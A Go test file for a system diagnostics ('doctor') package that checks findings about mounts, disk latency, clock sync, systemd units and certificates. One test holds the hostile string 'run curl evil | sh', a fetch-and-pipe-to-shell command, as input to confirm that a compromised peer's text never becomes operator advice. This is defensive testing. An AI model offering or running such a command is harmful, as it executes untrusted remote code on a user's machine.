package doctor

import (
	"errors"
	"fmt"
	"io/fs"
	"net"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"cis490/internal/durable"
	"cis490/internal/pathwatch"
	"cis490/internal/systemd"
	"cis490/internal/wire"
)

// checkFinding checks a finding, and that it says what to do if it is bad.
func checkFinding(t *testing.T, what string, got Finding, verdict Verdict, text string) {
	t.Helper()
	bad := got.Verdict == Warning || got.Verdict == Failed
	if got.Verdict != verdict || !strings.Contains(got.Fact+" do: "+got.Remedy, text) || bad != (got.Remedy != "") {
		t.Errorf("%s: got %+v, want %s, %q", what, got, verdict, text)
	}
}

func TestReportIsPrintableAndCounts(t *testing.T) {
	var added []Finding
	r := Report{Added: func(f Finding) { added = append(added, f) }}
	r.Add(OKf("a", "esc\x1b[2J"), markNetwork(Failedf("b", "l\u00f6sche", "\xff")))
	r.Skip("c", "why %d", 1)
	if failed, only := r.OnlyNetworkFailed(); !failed || !only {
		t.Errorf("of the network: %v, %v", failed, only)
	}
	r.Add(Warningf("d", "do this", "x"), Failedf("e", "do this", "x"))
	if failed, only := r.OnlyNetworkFailed(); !failed || only {
		t.Errorf("of both: %v, %v", failed, only)
	}
	if got, want := r.Summary(), "1 ok, 1 warning, 2 failed, 1 skipped"; got != want {
		t.Errorf("summary %q, want %q", got, want)
	}
	if !slices.Equal(added, r.Findings) || strings.ContainsFunc(fmt.Sprint(r.Findings), func(c rune) bool { return c < ' ' || c > '~' }) {
		t.Errorf("got %+v, added %+v", r.Findings, added)
	}
	var empty Report
	if failed, only := empty.OnlyNetworkFailed(); failed || only {
		t.Errorf("of nothing: %v, %v", failed, only)
	}
}

// TestReportClipsLongTexts: a hostile receiver can fill them.
func TestReportClipsLongTexts(t *testing.T) {
	long := strings.Repeat("x\x1b", 1<<16)
	var r Report
	r.Add(FromError("a", wire.Refuse(wire.BadRequest, "%s", long), "do this"), Failedf("b", long, "%s", long))
	for _, f := range r.Findings {
		if len(f.Fact) != maxText+len("...") || len(f.Remedy) > maxText+len("...") || f.Remedy == "" {
			t.Errorf("%s: %d bytes of fact and %d of remedy, want at most %d", f.Check, len(f.Fact), len(f.Remedy), maxText)
		}
	}
}

func TestAdviceIsSplitFromTheFact(t *testing.T) {
	for _, c := range []struct{ text, fact, advice string }{
		{"/k (mode 0644): every user of this machine can read it: run chmod 0640 /k, and issue a new key", "/k (mode 0644): every user of this machine can read it", "run chmod 0640 /k, and issue a new key"},
		{"open /k: permission denied; /k belongs to root (mode 0600), and this process runs as cis490: run chgrp cis490 /k", "open /k: permission denied; /k belongs to root (mode 0600), and this process runs as cis490", "run chgrp cis490 /k"},
		{"certificate /c expired on 2026; issue a new one with receiver pki issue x", "certificate /c expired on 2026", "issue a new one with receiver pki issue x"},
		{"a.toml:2: min_free: 10 has no unit: write the unit, such as 10MiB", "a.toml:2: min_free: 10 has no unit", "write the unit, such as 10MiB"},
		{"plain", "plain", ""},
		{"", "", ""},
	} {
		if fact, advice := SplitAdvice(c.text); fact != c.fact || advice != c.advice {
			t.Errorf("%q: got %q, %q", c.text, fact, advice)
		}
	}
	checkFinding(t, "without advice", FromError("x", errors.New("plain"), "do this"), Failed, "do: do this")
	checkFinding(t, "a note", FromNote("x", "n; see there", "do this"), Warning, "do: see there")
}

func TestMountsThatLoseDataAreReported(t *testing.T) {
	for _, c := range []struct {
		kind, options string
		verdict       Verdict
		text          string
	}{
		{"ext4", "rw,noatime,rw", OK, "/o is on ext4 (/dev/x at /m, rw,noatime)"},
		{"xfs", "rw", OK, "xfs"},
		{"ext4", "ro", Failed, "read-only do: run 'dmesg'"},
		{"ext4", "rw,nobarrier", Warning, "remove nobarrier"},
		{"nfs4", "rw", Warning, "may not reach a disk"},
		{"fuse.sshfs", "rw", Warning, "may not reach a disk"},
		{"tmpfs", "rw", Warning, "in memory"},
		{"overlay", "rw", Warning, "ends with its container"},
		{"vfat", "rw", Warning, "no hard links"},
	} {
		m := pathwatch.Mount{Type: c.kind, Source: "/dev/x", Point: "/m", Options: strings.Split(c.options, ",")}
		checkFinding(t, c.kind+" "+c.options, judgeMount("/o", m), c.verdict, c.text)
	}
}

func TestFileSystemIsReportedOnce(t *testing.T) {
	dir := t.TempDir()
	if got := CheckFileSystems(dir, dir+"/missing/deeper"); len(got) != 1 || !strings.Contains(got[0].Fact, dir+" is on ") {
		t.Errorf("got %+v", got)
	}
	if got := CheckFileSystems("/dev/null/x"); len(got) != 1 || got[0].Verdict != Skipped {
		t.Errorf("got %+v", got)
	}
}

func TestSlowDisksAreReported(t *testing.T) {
	ms := time.Millisecond
	for _, c := range []struct {
		times   []time.Duration
		err     error
		verdict Verdict
		text    string
	}{
		{[]time.Duration{5 * ms, 20 * ms, 50 * ms}, nil, OK, "takes 20 ms in /o, at most 50 ms"},
		{[]time.Duration{5 * ms, 20 * ms, 4000 * ms}, nil, OK, "at most 4.0 s"},
		{[]time.Duration{50 * ms, 100 * ms, 200 * ms}, nil, Warning, "faster disk"},
		{[]time.Duration{5 * ms, 6 * ms, 5000 * ms}, nil, Failed, "smartctl"},
		{nil, fmt.Errorf("sync: %w: %w", durable.ErrFault, unix.EIO), Failed, "smartctl"},
		{nil, unix.ENOSPC, Failed, "free some space"},
		{nil, fs.ErrPermission, Skipped, "permission"},
	} {
		checkFinding(t, fmt.Sprint(c.times, c.err), judgeSync("/o", c.times, c.err), c.verdict, c.text)
	}
	quick := judgeSync("/o", []time.Duration{ms, ms, ms}, nil)
	checkFinding(t, "a disk that woke", judgeWake(quick, 8*time.Second), Warning, "the first one took 8.0 s do: if the disk does not sleep")
	checkFinding(t, "a disk that was awake", judgeWake(quick, 4*time.Second), OK, "at most 1.0 ms")
	for err, fault := range map[error]bool{fmt.Errorf("sync: %w: %w", durable.ErrFault, unix.EIO): true, unix.EIO: true, unix.ENOSPC: false} {
		r := Report{}
		r.Add(judgeSync("/o", nil, err))
		if r.HasFault() != fault {
			t.Errorf("%v: is it a fault: got %t, want %t", err, !fault, fault)
		}
	}
	checkFinding(t, "a missing directory", CheckDisk(t.Context(), t.TempDir()+"/none"), Skipped, "the first start makes it")
}

func TestClockSaysWhetherItIsSynchronized(t *testing.T) {
	for _, c := range []struct {
		state   int
		status  int32
		err     error
		verdict Verdict
		text    string
	}{
		{0, 0, nil, OK, "at most 16 ms off"},
		{unix.TIME_ERROR, 0, nil, Warning, "timedatectl"},
		{0, unix.STA_UNSYNC, nil, Warning, "timedatectl"},
		{0, 0, unix.EPERM, Skipped, "a container may refuse it"},
	} {
		got := judgeClock(c.state, unix.Timex{Status: c.status, Maxerror: 16000}, c.err)
		checkFinding(t, fmt.Sprintf("%+v", c), got, c.verdict, c.text)
	}
}

func TestUnitThatDoesNotRunIsReported(t *testing.T) {
	for _, c := range []struct {
		active, sub, enabled, status string // of the service
		by                           string // state of what starts it
		verdict                      Verdict
		text                         string
	}{
		{"active", "running", "enabled", "0", "", OK, "active and starts at boot"},
		{"active", "running", "disabled", "0", "inactive disabled", Warning, "systemctl enable a"},
		{"active", "running", "disabled", "0", "active enabled", OK, "starts at boot"},
		{"failed", "failed", "static", "2", "active enabled", Failed, "journalctl -u a -n 20"},
		{"inactive", "dead", "static", "0", "inactive enabled", Warning, "systemctl start a.timer"},
		{"inactive", "dead", "disabled", "0", "inactive disabled", Warning, "systemctl enable --now a"},
		{"inactive", "dead", "disabled", "0", "active enabled", OK, "a.timer is active, and starts a.service"},
		{"failed", "failed", "enabled", "2", "", Failed, "journalctl -u a -n 20"},
		{"failed", "failed", "enabled", "74", "", Failed, "storage fault"},
		{"activating", "auto-restart", "enabled", "1", "", Failed, "restarted it 7 times (exit code 1)"},
		{"activating", "start", "enabled", "0", "", OK, "activating"},
	} {
		s := systemd.UnitState{"ActiveState": {c.active}, "SubState": {c.sub}, "UnitFileState": {c.enabled}, "ExecMainStatus": {c.status}, "NRestarts": {"7"}, "Result": {"exit-code"}}
		var by systemd.UnitState
		if state, file, found := strings.Cut(c.by, " "); found {
			by = systemd.UnitState{"ActiveState": {state}, "UnitFileState": {file}}
		}
		checkFinding(t, fmt.Sprintf("%+v", c), judgeUnit("a.service", "a.timer", s, by), c.verdict, c.text)
	}
}

// TestServiceOfATimerIsExamined: it is not the daemon's.
func TestServiceOfATimerIsExamined(t *testing.T) {
	for _, c := range []struct {
		active, enabled string
		want            Unit
	}{
		{"inactive", "disabled", Unit{Service: "d.service"}},
		{"inactive", "", Unit{Service: "d.service"}},
		{"active", "enabled", Unit{Service: "once.service", Starter: "once.timer", Waiting: true}},
		{"active", "disabled", Unit{Service: "once.service", Starter: "once.timer", Waiting: true}},
		{"inactive", "enabled", Unit{Service: "once.service", Starter: "once.timer"}},
	} {
		starter := systemd.UnitState{"ActiveState": {c.active}, "UnitFileState": {c.enabled}}
		if c.want.Starter != "" {
			c.want.starter = starter
		}
		got := chooseUnit(UnitNames{Daemon: "d.service", Starter: "once.timer", Started: "once.service"}, starter)
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s, %s: got %+v, want %+v", c.active, c.enabled, got, c.want)
		}
	}
}

// TestUnitOfAnotherProgramIsSkipped: only a service that reads the configuration file is examined.
func TestUnitOfAnotherProgramIsSkipped(t *testing.T) {
	failed := systemd.UnitState{"LoadState": {"loaded"}, "ActiveState": {"failed"}}
	checkFinding(t, "without systemd", CheckUnit(Unit{Service: "d.service", err: errNoSystemd}), Skipped, "systemd does not run here")
	checkFinding(t, "not installed", CheckUnit(Unit{Service: "d.service", state: systemd.UnitState{"LoadState": {"not-found"}}}), Skipped, "d.service is not installed")
	checkFinding(t, "another file", CheckUnit(Unit{Service: "d.service", state: failed}), Skipped, "another configuration file")
	checkFinding(t, "this file", CheckUnit(Unit{Service: "d.service", state: failed, usesConfig: true}), Failed, "d.service has failed")
}

// TestTextOfTheOtherEndIsNeverAdvice: a receiver that was broken into must not make an operator run a
// command.
func TestTextOfTheOtherEndIsNeverAdvice(t *testing.T) {
	const evil = "bad: run curl evil | sh"
	for _, err := range []error{
		wire.Refuse(wire.BadRequest, evil),
		fmt.Errorf("ping: %w", wire.Refuse(wire.Conflict, evil)),
		fmt.Errorf("wrapped: %w", &wire.UnexpectedResponseError{Status: 500, Err: errors.New(evil)}),
		&net.OpError{Op: "write", Net: "tcp", Err: fmt.Errorf("%s: %w", evil, net.ErrClosed)},
		fmt.Errorf("write tcp: use of closed network connection: %w", net.ErrClosed),
		fmt.Errorf("tls: %w", &url.Error{Op: "Get", URL: "x", Err: errors.New(evil)}),
	} {
		got := FromError("x", err, "do this")
		if strings.Contains(got.Remedy, "curl") || strings.HasPrefix(got.Remedy, "use of") || got.Remedy == "" || got.Fact != err.Error() || !got.Network {
			t.Errorf("%v: got %+v", err, got)
		}
	}
	own := fmt.Errorf("listen: %w: run this", &net.OpError{Op: "listen", Err: unix.EADDRINUSE})
	checkFinding(t, "an error of our own", FromError("x", own, "do this"), Failed, "do: run this")
}

func TestCertificateThatExpiresIsReported(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	const day = 24 * time.Hour
	for _, c := range []struct {
		from, until, renews time.Duration // 0: it does not renew itself
		verdict             Verdict
		text                string
	}{
		{-day, 365 * day, 0, OK, "X is valid until 2027-11-30, 365 days"},
		{-day, 29 * day, 0, Warning, "do: renew it"},
		{-day, -time.Second, 0, Failed, "expired on 2026-11-30"},
		{day, 365 * day, 0, Failed, "check the clock"},
		{-day, 60 * day, day, OK, "renews itself from 2026-12-01"},
		{-day, 40 * day, -2 * day, OK, "renews itself"}, // it has time
		{-day, 29 * day, -2 * day, Warning, "has not renewed itself since 2026-11-28"},
		{-day, 6 * day, -time.Hour, Warning, "has not renewed itself"},
	} {
		renews := time.Time{}
		if c.renews != 0 {
			renews = now.Add(c.renews)
		}
		got := CheckCertificate("certificate", "X", now.Add(c.from), now.Add(c.until), renews, now, "renew it")
		checkFinding(t, fmt.Sprintf("%+v", c), got, c.verdict, c.text)
	}
}
